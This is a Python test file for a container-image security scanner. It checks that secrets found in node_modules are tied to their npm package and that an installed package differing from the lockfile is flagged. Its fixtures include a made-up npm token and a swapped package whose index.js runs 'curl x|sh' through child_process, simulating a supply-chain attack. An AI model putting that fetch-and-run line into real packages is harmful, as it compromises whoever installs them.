"""npm packages in package verification: findings in node_modules carry their package, and an application's
lockfile is checked against the installed versions. Real parts: the full engine over images written
in-process, the real secret rules."""

from __future__ import annotations

import json

from explorer.detectors import npm_packages as npm
from explorer.detectors.token_checksums import with_checksum
from explorer.demo.imagewriter import Entry, Layer

TOKEN = with_checksum("npm_", "Qw3Er5Ty7Ui9Op1As2Df4Gh6Jk8Lz0")


def tree(files: dict[str, bytes]) -> list[Entry]:
    dirs = sorted({p.rsplit("/", i)[0] for p in files for i in range(1, p.count("/")) if p.rsplit("/", i)[0]})
    return [Entry.dir(d) for d in dirs] + [Entry.file(p, c) for p, c in files.items()]


def manifest(name: str, version: str) -> bytes:
    return json.dumps({"name": name, "version": version, "main": "index.js"}).encode()


def lock(packages: dict[str, str]) -> bytes:
    return json.dumps({"name": "shop", "lockfileVersion": 3, "packages": {
        "": {"name": "shop"}, **{k: {"version": v, "integrity": "sha512-x"} for k, v in packages.items()}}}).encode()


def test_paths():
    assert npm.package_dir("/app/node_modules/@aws/sdk/dist/x.js") == "/app/node_modules/@aws/sdk"
    assert npm.package_dir("/app/node_modules/a/node_modules/b/lib/c.js") == "/app/node_modules/a/node_modules/b"
    assert npm.package_dir("/app/src/x.js") is None
    assert npm.is_lockfile("/app/package-lock.json") and npm.is_lockfile("/app/node_modules/.package-lock.json")
    assert not npm.is_lockfile("/app/node_modules/left-pad/package-lock.json")  # a package's own: npm ignores it


def test_findings_in_node_modules_carry_their_package_and_a_swapped_package_is_flagged(scan_layers):
    app = {"/app/package.json": manifest("shop", "1.0.0"),
           "/app/package-lock.json": lock({"node_modules/left-pad": "1.3.0", "node_modules/@acme/util": "2.0.1"}),
           "/app/node_modules/left-pad/package.json": manifest("left-pad", "1.3.0"),
           "/app/node_modules/left-pad/index.js": b"module.exports = x => x;\n",
           "/app/node_modules/@acme/util/package.json": manifest("@acme/util", "2.0.1"),
           "/app/node_modules/@acme/util/lib/publish.js": f"const token = '{TOKEN}';\n".encode()}
    swapped = {"/app/node_modules/left-pad/package.json": manifest("left-pad", "1.3.1"),
               "/app/node_modules/left-pad/index.js": b"require('child_process').exec('curl x|sh');\n"}
    result = scan_layers([Layer(tree(app)), Layer([Entry.file(p, c) for p, c in swapped.items()])])
    [secret] = [f for f in result.findings if f.rule_id == "secret.npm-token"]
    assert secret.path == "/app/node_modules/@acme/util/lib/publish.js"
    assert secret.package == ("@acme/util", "2.0.1", None) and secret.to_json()["package"] == {
        "name": "@acme/util", "version": "2.0.1"}
    [mismatch] = [f for f in result.findings if f.rule_id == "integrity.package.npm-lock-mismatch"]
    assert (mismatch.path, mismatch.layer, mismatch.severity) == ("/app/node_modules/left-pad/package.json", 1, "medium")
    assert mismatch.evidence == "left-pad 1.3.1 installed, /app/package-lock.json records 1.3.0"


def test_an_install_matching_its_lockfile_raises_nothing(scan_layers):
    app = {"/srv/node_modules/.package-lock.json": lock({"node_modules/a": "1.0.0", "node_modules/a/node_modules/b": "2.0.0"}),
           "/srv/node_modules/a/package.json": manifest("a", "1.0.0"),
           "/srv/node_modules/a/node_modules/b/package.json": manifest("b", "2.0.0")}
    result = scan_layers([Layer(tree(app))])
    assert not [f for f in result.findings if f.rule_id.startswith("integrity.package")]
